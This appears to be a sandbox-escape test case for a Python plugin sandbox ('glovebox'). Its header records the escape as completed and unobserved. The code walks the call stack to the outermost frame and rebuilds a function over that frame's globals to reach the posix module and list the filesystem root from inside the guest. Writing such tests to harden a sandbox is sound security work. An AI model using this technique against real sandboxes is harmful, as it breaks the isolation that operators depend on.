# id: L07
# family: language
# goal: run own code under the globals of the supervisor's half in the guest
# finding: PY105 PY106 PY302 PY406
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import sys


def attack(ctx, bar):
    def stolen():
        return sys.modules["posix"].getcwd(), sys.modules["posix"].listdir("/")

    frame = sys._getframe()
    while frame.f_back is not None:
        frame = frame.f_back
    names = dict(frame.f_globals)
    names["sys"] = sys
    return type(stolen)(stolen.__code__, names)()


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
